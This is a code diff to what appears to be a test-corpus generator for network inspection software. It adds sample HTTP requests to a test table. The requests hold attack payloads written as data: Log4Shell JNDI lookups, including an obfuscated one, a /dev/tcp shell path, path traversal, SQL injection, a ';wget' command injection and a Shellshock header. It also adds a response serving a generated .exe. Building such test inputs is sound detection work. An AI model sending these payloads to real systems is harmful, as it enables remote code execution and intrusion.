@@ -11,7 +11,8 @@ import sys
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "generate"))
 import segments  # noqa: E402
 import x509  # noqa: E402
-from payload import http_get, tls12_server_hello, tls_client_hello, tls_server_hello  # noqa: E402
+from payload import (http_get, program_for_windows, tls12_server_hello, tls_client_hello,  # noqa: E402
+                     tls_server_hello)
 
 CORPUS = pathlib.Path(__file__).parent / "corpus"
 
@@ -100,6 +101,10 @@ REQUESTS = {
     "not-ascii": b"GET / HTTP/1.1\r\nHost: m\xc3\xbc\0\r\n\r\n",
     "addresses": b"GET /?x=${jndi:ldap://192.0.2.1:1389/a}&y=%5B2001%3Adb8%3A%3A1%5D%3A80 HTTP/1.1\r\nA: /dev/tcp/192.0.2.1/80\r\n\r\n",
     "content": b"POST / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx",
+    "injections": b"GET /a/../../b?c=%27or%271%27%3d1&d=${${lower:j}ndi:x}&e=;wget+http://f HTTP/1.1\r\n"
+                  b"A: () { :;}\r\n\r\n",
+    "program": b"HTTP/1.1 200 OK\r\nContent-Disposition: a; filename=\"b.exe\"\r\n\r\n40\r\n" +
+               program_for_windows(SEEDED, 9, 0x80),
 }
 
 INFOS = {
